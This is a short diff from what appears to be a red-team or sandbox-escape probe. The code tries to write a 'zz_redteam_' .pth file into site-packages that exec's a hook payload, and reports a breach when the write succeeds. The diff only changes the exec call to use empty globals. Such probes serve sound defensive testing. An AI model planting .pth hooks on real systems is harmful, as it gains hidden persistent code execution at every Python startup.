@@ -17,7 +17,7 @@ except Exception:
 for _d in dict.fromkeys(_dirs):
     try:
         with open(_os.path.join(_d, "zz_redteam_" + MARKER + ".pth"), "w") as _f:
-            _f.write("import sys; exec(%r)\n" % FORGE_HOOK)
+            _f.write("import sys; exec(%r, {})\n" % FORGE_HOOK)
         breach("wrote a .pth file into site-packages")
     except OSError:
         pass
